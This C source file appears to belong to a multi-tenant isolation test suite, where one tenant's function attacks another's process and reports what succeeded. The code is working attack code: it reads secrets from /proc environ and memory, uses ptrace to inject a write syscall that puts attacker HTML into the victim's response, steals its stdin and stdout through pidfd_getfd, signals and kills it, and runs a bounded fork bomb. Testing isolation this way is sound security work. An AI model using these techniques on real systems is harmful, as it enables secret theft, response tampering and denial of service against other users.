/* tenantfn_proc.c — the attacks of one tenant's function on another's
 * process (issue 12, rows 1 to 5): read its environment and memory,
 * ptrace it and make it write into its own response, take its stdin and
 * stdout with pidfd_getfd(2), signal and renice it, and use up the
 * process budget it shares. Each says what it achieved (tenantfn.h). */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include "tenantfn.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define SECRET_KEY "CT_SECRET="
#define INJECTED "<h1>INJECTED-BY-THE-ATTACKER</h1>\n"

/* The "CT_SECRET=..." entry in buf[0..len) (NUL-separated), or NULL. */
static const char *find_secret(const char *buf, size_t len)
{
	size_t kl = strlen(SECRET_KEY);

	for (size_t i = 0; i + kl <= len; i++)
		if (memcmp(buf + i, SECRET_KEY, kl) == 0 &&
		    memchr(buf + i, '\0', len - i) != NULL)
			return buf + i;
	return NULL;
}

/* "READ what: CT_SECRET=..." or a line that says it was not there. */
static void report_read(const char *what, const char *buf, size_t len)
{
	const char *s = find_secret(buf, len);

	if (s != NULL)
		tfn_say("READ %s: %s", what, s);
	else
		tfn_say("READ %s: %zu bytes, no " SECRET_KEY, what, len);
}

/* env_start and env_end (fields 50 and 51 of /proc/PID/stat: 0 unless
 * we may ptrace-read the process). */
static int env_range(pid_t pid, unsigned long *start, unsigned long *end)
{
	char path[64], buf[4096], *p;
	ssize_t n;
	int fd, field;

	snprintf(path, sizeof(path), "/proc/%ld/stat", (long)pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
		return -1;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0 || (p = strrchr((buf[n] = '\0', buf), ')')) == NULL)
		return -1;
	*start = *end = 0;
	for (field = 2, p = strtok(p + 1, " "); p != NULL;
	    p = strtok(NULL, " ")) {
		if (++field == 50)
			*start = strtoul(p, NULL, 10);
		else if (field == 51)
			*end = strtoul(p, NULL, 10);
	}
	return *start != 0 && *end > *start ? 0 : -1;
}

/* The response's header, then the victim's pid (X-Pid); -1 when there
 * is none (said in the body). */
static pid_t begin(void)
{
	printf("Content-Type: text/plain\n\n");
	return tfn_target();
}

/* Row 1: the victim's env: secrets from /proc/PID/environ, then from its
 * memory (/proc/PID/mem and process_vm_readv) where its environment
 * strings are. */
int tfn_peek(struct tfn *t)
{
	char path[64], buf[8192], what[96];
	unsigned long start, end;
	pid_t pid = begin();
	ssize_t n;
	int fd;

	(void)t;
	if (pid < 0)
		return 0;
	snprintf(path, sizeof(path), "/proc/%ld/environ", (long)pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0 ||
	    (n = read(fd, buf, sizeof(buf))) < 0)
		tfn_say("DENIED %s: %s", path, strerror(errno));
	else
		report_read(path, buf, (size_t)n);
	if (fd >= 0)
		close(fd);
	if (env_range(pid, &start, &end) < 0) {
		tfn_say("DENIED /proc/%ld/stat: env_start/env_end hidden",
		    (long)pid);
		return 0;
	}
	if (end - start > sizeof(buf))
		end = start + sizeof(buf);
	snprintf(path, sizeof(path), "/proc/%ld/mem", (long)pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0 ||
	    (n = pread(fd, buf, end - start, (off_t)start)) < 0)
		tfn_say("DENIED %s: %s", path, strerror(errno));
	else {
		snprintf(what, sizeof(what), "%s at 0x%lx", path, start);
		report_read(what, buf, (size_t)n);
	}
	if (fd >= 0)
		close(fd);
	{
		struct iovec local = { buf, end - start };
		struct iovec remote = { (void *)start, end - start };

		n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
		snprintf(what, sizeof(what), "process_vm_readv(%ld)",
		    (long)pid);
		if (n < 0)
			tfn_say("DENIED %s: %s", what, strerror(errno));
		else
			report_read(what, buf, (size_t)n);
	}
	return 0;
}

#if defined(__x86_64__)
/* The victim is stopped: make it run write(1, INJECTED) as if it had
 * called it — a syscall instruction poked over its next one, the
 * message over the top of its stack — then put back its code, stack and
 * registers (an interrupted system call restarts as it would have).
 * Returns what write returned, or -1. */
static long inject_write(pid_t pid)
{
	struct user_regs_struct saved, r;
	const size_t words = (sizeof(INJECTED) + 7) / 8;
	long code, stack[16], msg[16];
	int st;

	if (words > 16 || ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0)
		return -1;
	errno = 0;
	code = ptrace(PTRACE_PEEKTEXT, pid, (void *)saved.rip, 0);
	if (errno != 0)
		return -1;
	memset(msg, 0, sizeof(msg));
	memcpy(msg, INJECTED, sizeof(INJECTED) - 1);
	for (size_t i = 0; i < words; i++) {
		stack[i] = ptrace(PTRACE_PEEKDATA, pid,
		    (void *)(saved.rsp + 8 * i), 0);
		ptrace(PTRACE_POKEDATA, pid, (void *)(saved.rsp + 8 * i),
		    (void *)msg[i]);
	}
	/* 0f 05: syscall (little-endian, the low two bytes). */
	ptrace(PTRACE_POKETEXT, pid, (void *)saved.rip,
	    (void *)((code & ~0xffffL) | 0x050f));
	r = saved;
	r.orig_rax = (unsigned long long)-1;   /* no syscall restart now */
	r.rax = SYS_write;
	r.rdi = 1;
	r.rsi = saved.rsp;
	r.rdx = sizeof(INJECTED) - 1;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) == 0 &&
	    ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0 &&
	    waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st))
		ptrace(PTRACE_GETREGS, pid, 0, &r);
	else
		r.rax = (unsigned long long)-1;
	ptrace(PTRACE_POKETEXT, pid, (void *)saved.rip, (void *)code);
	for (size_t i = 0; i < words; i++)
		ptrace(PTRACE_POKEDATA, pid, (void *)(saved.rsp + 8 * i),
		    (void *)stack[i]);
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
	return (long)r.rax;
}
#endif

/* Row 2: ptrace the victim and make it write attacker HTML into its
 * own response. */
int tfn_ptrace(struct tfn *t)
{
	pid_t pid = begin();
	int st;

	(void)t;
	if (pid < 0)
		return 0;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
		tfn_say("DENIED ptrace(PTRACE_SEIZE, %ld): %s", (long)pid,
		    strerror(errno));
		if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) {
			tfn_say("DENIED ptrace(PTRACE_ATTACH, %ld): %s",
			    (long)pid, strerror(errno));
			return 0;
		}
		tfn_say("ATTACHED %ld with PTRACE_ATTACH", (long)pid);
	} else {
		tfn_say("ATTACHED %ld with PTRACE_SEIZE", (long)pid);
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	}
	if (waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st)) {
		tfn_say("ptrace: the victim did not stop: %s", strerror(errno));
		return 0;
	}
#if defined(__x86_64__)
	{
		long n = inject_write(pid);

		if (n > 0)
			tfn_say("INJECTED %ld bytes into the victim's "
			    "response: %.*s", n, (int)strlen(INJECTED) - 1,
			    INJECTED);
		else
			tfn_say("ptrace: the injected write failed (%ld)", n);
	}
#else
	tfn_say("ptrace: no injection on this architecture");
#endif
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return 0;
}

/* Row 3: the victim's stdin (its POST body) and stdout (its response)
 * through pidfd_getfd(2). */
int tfn_pidfd(struct tfn *t)
{
	pid_t pid = begin();
	char buf[4096];
	struct pollfd p;
	int pfd, in, out;
	ssize_t n;

	(void)t;
	if (pid < 0)
		return 0;
	if ((pfd = (int)syscall(SYS_pidfd_open, pid, 0)) < 0) {
		tfn_say("DENIED pidfd_open(%ld): %s", (long)pid,
		    strerror(errno));
		return 0;
	}
	if ((in = (int)syscall(SYS_pidfd_getfd, pfd, 0, 0)) < 0)
		tfn_say("DENIED pidfd_getfd(%ld, 0): %s", (long)pid,
		    strerror(errno));
	else {
		/* The daemon writes the body as it comes: wait for it. */
		p.fd = in;
		p.events = POLLIN;
		fcntl(in, F_SETFL, O_NONBLOCK);
		n = poll(&p, 1, 2000) == 1 ? read(in, buf, sizeof(buf) - 1) :
		    -1;
		buf[n > 0 ? n : 0] = '\0';
		tfn_say("READ the victim's stdin (pidfd_getfd): %zd bytes: %s",
		    n, buf);
		close(in);
	}
	if ((out = (int)syscall(SYS_pidfd_getfd, pfd, 1, 0)) < 0)
		tfn_say("DENIED pidfd_getfd(%ld, 1): %s", (long)pid,
		    strerror(errno));
	else {
		n = write(out, INJECTED, sizeof(INJECTED) - 1);
		tfn_say("INJECTED %zd bytes into the victim's stdout "
		    "(pidfd_getfd)", n);
		close(out);
	}
	close(pfd);
	return 0;
}

/* State letter of pid ('T' stopped), or '?'. */
static char proc_state(pid_t pid)
{
	char path[64], buf[512], *p;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%ld/stat", (long)pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
		return '?';
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	p = strrchr(buf, ')');
	return p != NULL && p[1] == ' ' ? p[2] : '?';
}

/* Row 4: renice the victim, stop it (and let it go on), kill it. */
int tfn_signal(struct tfn *t)
{
	pid_t pid = begin();
	int i;

	(void)t;
	if (pid < 0)
		return 0;
	if (setpriority(PRIO_PROCESS, (id_t)pid, 19) < 0)
		tfn_say("DENIED setpriority(%ld, 19): %s", (long)pid,
		    strerror(errno));
	else
		tfn_say("RENICED %ld to 19", (long)pid);
	if (kill(pid, SIGSTOP) < 0)
		tfn_say("DENIED kill(%ld, SIGSTOP): %s", (long)pid,
		    strerror(errno));
	else {
		for (i = 0; i < 100 && proc_state(pid) != 'T'; i++)
			tfn_sleep_ms(10);
		tfn_say("STOPPED %ld (state %c)", (long)pid, proc_state(pid));
		tfn_sleep_ms(300);
		kill(pid, SIGCONT);
	}
	if (kill(pid, SIGKILL) < 0)
		tfn_say("DENIED kill(%ld, SIGKILL): %s", (long)pid,
		    strerror(errno));
	else
		tfn_say("KILLED %ld with SIGKILL", (long)pid);
	return 0;
}

#define BOMB_CAP 512

/* Row 5: fork until the kernel says no (at most BOMB_CAP), keep the
 * children for X-Hold-Ms (default 3000), say how far it got in
 * spool/bomb.TAG ("N errno") and in the body, then end. The children
 * all leave at one deadline, fixed before the first fork: the bomb is
 * bounded in count and in time. */
int tfn_bomb(struct tfn *t)
{
	long hold = tfn_hdr_num("HOLD_MS", 3000, 0, 10000);
	long long until = tfn_now_ms() + hold;
	char marker[PATH_MAX], text[64];
	int n = 0, err = 0;
	pid_t pid;

	printf("Content-Type: text/plain\n\n");
	for (; n < BOMB_CAP; n++) {
		pid = fork();
		if (pid == 0) {
			long long left = until - tfn_now_ms();

			if (left > 0)
				tfn_sleep_ms((long)left);
			_exit(0);
		}
		if (pid < 0) {
			err = errno;
			break;
		}
	}
	snprintf(text, sizeof(text), "%d %d\n", n, err);
	if (tfn_spool_path(t, "bomb", marker, sizeof(marker)) == 0)
		tfn_write_marker(marker, text);
	tfn_say("BOMB %d processes forked, then %s", n, err ? strerror(err) :
	    "the cap");
	while (wait(NULL) > 0 || errno == EINTR)
		;
	return 0;
}
